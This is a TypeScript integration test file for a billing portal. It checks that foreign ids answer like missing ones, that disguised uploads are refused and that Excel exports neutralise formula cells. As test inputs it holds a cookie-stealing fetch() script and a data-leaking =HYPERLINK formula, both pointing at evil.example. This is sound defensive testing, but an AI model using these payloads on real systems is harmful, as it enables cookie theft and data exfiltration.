/**
 * Issue 20 (Trust II), items 8 and 12: a foreign id answers like a nonexistent one (orders, custom
 * charges, imports, pricelists), uploads are checked by their whole structure, and exports defuse
 * cells a spreadsheet would run as formulas.
 */
import ExcelJS from 'exceljs';
import QRCode from 'qrcode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SessionUser } from '../../contract';
import type { ApiClient, CallResult } from '../support/api-client';
import { samplePdf } from '../support/sample-documents';
import { startTestServer, type TestServer } from '../support/test-server';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());

const db = () => server.server.db;

async function scopeOf(api: ApiClient): Promise<string> {
  return (await api.call<SessionUser>('Authorization', 'GetCurrentUser')).body.AccountPath;
}

/** An id of `table` whose owning account (path) lies outside `scope`, and one no row has. */
async function foreignAndMissing(table: string, ownerPathSql: string, scope: string): Promise<{ foreign: number; missing: number }> {
  const foreign = await db().one<{ id: number }>(
    `SELECT t.id FROM ${table} t WHERE NOT (${ownerPathSql} = $1 OR ${ownerPathSql} LIKE $1 || '/%') ORDER BY t.id LIMIT 1`,
    [scope],
  );
  const top = await db().one<{ id: number }>(`SELECT coalesce(max(id), 0)::int AS id FROM ${table}`);
  expect(foreign, `a ${table} row outside ${scope}`).toBeDefined();
  return { foreign: Number(foreign!.id), missing: Number(top!.id) + 1000 };
}

const answerOf = (result: CallResult) => ({ status: result.status, contentType: result.headers.get('content-type'), body: result.text });

/** The same call with the foreign and the missing id: byte-identical status and body, and a refusal. */
async function expectSameAnswer(call: (id: number) => Promise<CallResult>, ids: { foreign: number; missing: number }, label: string) {
  const foreign = answerOf(await call(ids.foreign));
  const missing = answerOf(await call(ids.missing));
  expect(foreign, label).toEqual(missing);
  expect(foreign.status, `${label}: ${foreign.body}`).toBe(404);
}

const OWNER_OF = (accountColumn: string) => `(SELECT a.path FROM accounts a WHERE a.id = ${accountColumn})`;

describe('item 8: foreign and nonexistent ids answer the same', () => {
  it('orders', async () => {
    // Contoso's administrator; the other companies of Northwind have orders too.
    const admin = await server.signedIn('company.admin');
    const ids = await foreignAndMissing('credit_check_orders', OWNER_OF('t.parent_account_id'), await scopeOf(admin));
    await expectSameAnswer((id) => admin.call('CreditCheck', 'GenerateOrderInvoicePdf', { request: { OrderId: id } }), ids, 'GenerateOrderInvoicePdf');
    await expectSameAnswer((id) => admin.call('CreditCheck', 'CancelCreditCheckOrder', { request: { OrderId: id } }), ids, 'CancelCreditCheckOrder');
    await expectSameAnswer((id) => admin.call('CreditCheck', 'DownloadCreditCheckOrderFile', { request: { OrderId: id, FileId: 1 } }), ids, 'DownloadCreditCheckOrderFile');
  });

  it('custom charges', async () => {
    const admin = await server.signedIn('company.admin');
    const ids = await foreignAndMissing('custom_charges', OWNER_OF('t.account_id'), await scopeOf(admin));
    await expectSameAnswer((id) => admin.call('CustomCharges', 'DownloadCustomChargeAttachment', { customChargeId: id }), ids, 'DownloadCustomChargeAttachment');
    await expectSameAnswer((id) => admin.call('CustomCharges', 'DeleteCustomChargeById', { customChargeId: id }), ids, 'DeleteCustomChargeById');
    expect(await db().one('SELECT 1 FROM custom_charges WHERE id = $1', [ids.foreign])).toBeDefined();
  });

  it('imports and their rows', async () => {
    const admin = await server.signedIn('company.admin');
    const scope = await scopeOf(admin);
    const ids = await foreignAndMissing('imports', OWNER_OF('t.owner_account_id'), scope);
    await expectSameAnswer((id) => admin.call('Import', 'GetImportDetails', { importId: id }), ids, 'GetImportDetails');
    await expectSameAnswer((id) => admin.call('Import', 'CancelImport', { importId: id }), ids, 'CancelImport');
    const rows = await foreignAndMissing('import_accounts', OWNER_OF('(SELECT i.owner_account_id FROM imports i WHERE i.id = t.import_id)'), scope);
    await expectSameAnswer((id) => admin.call('Import', 'CancelImportAccount', { importAccountId: id }), rows, 'CancelImportAccount');
  });

  it('pricelists, their pricing rules and their update jobs', async () => {
    const reseller = await server.signedIn('reseller.admin');
    const scope = await scopeOf(reseller);
    const ids = await foreignAndMissing('marketplaces', OWNER_OF('t.owner_account_id'), scope);
    await expectSameAnswer((id) => reseller.call('Marketplace', 'GetMarketplaceProperties', { marketplaceId: id }), ids, 'GetMarketplaceProperties');
    await expectSameAnswer((id) => reseller.call('Marketplace', 'DeleteMarketplace', { marketplaceId: id }), ids, 'DeleteMarketplace');
    await expectSameAnswer((id) => reseller.call('Pricing', 'GetPricingRuleGroup', { inputDto: { MarketplaceId: id } }), ids, 'GetPricingRuleGroup');
    expect(await db().one('SELECT 1 FROM marketplaces WHERE id = $1', [ids.foreign])).toBeDefined();

    // A job of the root's pricelist, as its owner starts one.
    const root = await server.signedIn('root.admin');
    const service = await db().one<{ name: string }>('SELECT name FROM services ORDER BY id LIMIT 1');
    const job = await root.call<{ JobId: number }>('Marketplace', 'UpdateMarketplaceServices', {
      marketplaceOfferId: ids.foreign,
      marketplaceServiceList: [{ ServiceName: service!.name }],
    });
    expect(job.status, job.text).toBe(200);
    const jobs = { foreign: job.body.JobId, missing: job.body.JobId + 1000 };
    await expectSameAnswer((id) => reseller.call('Marketplace', 'GetMarketplaceUpdateJob', { jobId: id }), jobs, 'GetMarketplaceUpdateJob');
  });
});

describe('item 12: uploads are what they claim, exports defuse formulas', () => {
  const FORMAT_NOT_SUPPORTED = 'File format not supported';
  const HTML = '<html><body><script>fetch("https://evil.example/?c=" + document.cookie)</script></body></html>';

  async function attach(admin: ApiClient, fileName: string, content: Buffer) {
    const contosoId = (await admin.call<SessionUser>('Authorization', 'GetCurrentUser')).body.CompanyAccount!.AccountId;
    return admin.call<{ Id: number; AttachmentFileId: number | null }>('CustomCharges', 'AddCustomCharge', {
      customCharge: { Name: `Attachment ${fileName}`, Price: 10, Cost: 5, AccountId: contosoId, Attachment: { FileName: fileName, Content: content.toString('base64') } },
    });
  }

  it('refuses a PDF header followed by HTML, accepts a real PDF, refuses a corrupt PNG', async () => {
    const admin = await server.signedIn('company.admin');
    const polyglot = await attach(admin, 'quote.pdf', Buffer.from(`%PDF-1.4\n${HTML}`));
    expect(polyglot).toMatchObject({ status: 400, message: FORMAT_NOT_SUPPORTED });
    // Also with a complete PDF behind the HTML, which a PDF reader alone would open.
    const real = samplePdf('installation quote');
    const behind = await attach(admin, 'quote.pdf', Buffer.concat([Buffer.from(`%PDF-1.4\n${HTML}\n`), real.subarray(real.indexOf('1 0 obj'))]));
    expect(behind).toMatchObject({ status: 400, message: FORMAT_NOT_SUPPORTED });
    // The same to an order.
    const order = await db().one<{ id: number }>(
      `SELECT o.id FROM credit_check_orders o JOIN accounts a ON a.id = o.parent_account_id WHERE a.path LIKE $1 || '%' ORDER BY o.id LIMIT 1`,
      [await scopeOf(admin)],
    );
    const toOrder = await admin.call('CreditCheck', 'AttachCreditCheckOrderFile', {
      request: { OrderId: order?.id ?? 1, FileName: 'po.pdf', Content: Buffer.from(`%PDF-1.7\n${HTML}`).toString('base64') },
    });
    expect(toOrder).toMatchObject({ status: 400, message: FORMAT_NOT_SUPPORTED });

    const accepted = await attach(admin, 'quote.pdf', real);
    expect(accepted.status, accepted.text).toBe(200);
    const download = await admin.call<{ Content: string; ContentType: string }>('CustomCharges', 'DownloadCustomChargeAttachment', { customChargeId: accepted.body.Id });
    expect(download.body.ContentType).toBe('application/pdf');
    expect(Buffer.from(download.body.Content, 'base64').equals(real)).toBe(true);

    // A PNG whose header chunk was damaged: refused under either name (no upload takes images; the
    // image decoder itself is held by server/files/file-structure.test.ts).
    const png = await QRCode.toBuffer('https://portal.example/');
    png[30] ^= 0xff;
    for (const name of ['scan.png', 'scan.pdf']) expect(await attach(admin, name, png)).toMatchObject({ status: 400, message: FORMAT_NOT_SUPPORTED });
  });

  it('an Excel export of a value "=HYPERLINK(…)" arrives defused, and a negative number stays a number', async () => {
    const reseller = await server.signedIn('reseller.admin');
    const pricelists = (await reseller.call<{ MarketplaceId: number }[]>('Pricing', 'ListPricingRuleGroups', {})).body;
    const marketplaceId = pricelists[0].MarketplaceId;
    type Rule = { Id: number; Name: string; Priority: number; VendorAccountId: number | null; ServiceGroup: string | null; PriceableItem: string | null; PricingModel: string; Value: number; IsDefault: boolean };
    const current = (await reseller.call<{ Rules: Rule[] }>('Pricing', 'GetPricingRuleGroup', { inputDto: { MarketplaceId: marketplaceId } })).body.Rules;
    const link = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the price sheet")';
    const rules = [
      ...current.map(({ Id, Name, Priority, VendorAccountId, ServiceGroup, PriceableItem, PricingModel, Value }) => ({ Id, Name, Priority, VendorAccountId, ServiceGroup, PriceableItem, PricingModel, Value })),
      { Name: link, Priority: 77, ServiceGroup: 'Cloud Backup', PricingModel: 'Markup', Value: -5 },
    ];
    const saved = await reseller.call('Pricing', 'UpdatePricingRuleGroup', { inputDto: { MarketplaceId: marketplaceId, Rules: rules } });
    expect(saved.status, saved.text).toBe(200);

    const file = await reseller.call<{ Content: string }>('Pricing', 'PricingRuleExcelDownload', { inputDto: { MarketplaceId: marketplaceId } });
    expect(file.status, file.text).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(file.body.Content, 'base64') as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const row = sheet.getRows(2, sheet.rowCount - 1)!.find((candidate) => String(candidate.getCell(1).value).includes('HYPERLINK'))!;
    expect(row.getCell(1).value).toBe(`'${link}`);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(7).value).toBe(-5);
    expect(row.getCell(7).type).toBe(ExcelJS.ValueType.Number);
  });
});
